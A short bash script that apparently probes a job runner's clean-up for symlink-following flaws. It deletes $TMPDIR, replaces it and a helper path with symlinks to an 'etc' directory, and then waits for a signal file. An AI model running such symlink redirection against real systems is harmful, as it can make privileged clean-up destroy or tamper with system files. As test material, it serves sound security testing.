#!/bin/bash
# Tries to make the clean-up after the job follow a link of its own.
folder=$(dirname "$0"); echo "folder=$folder"
ln -sfn "$D/etc" "$folder/x" 2>/dev/null && echo "link=made"
mv "$folder" "$folder.old" 2>/dev/null && echo "folder=moved"
if [ "$TMPDIR" != /tmp ]; then rm -rf "$TMPDIR" && ln -s "$D/etc" "$TMPDIR"; fi
echo ready
for ((i=0;i<200;i++)); do [ -e go ] && break; sleep .1; done
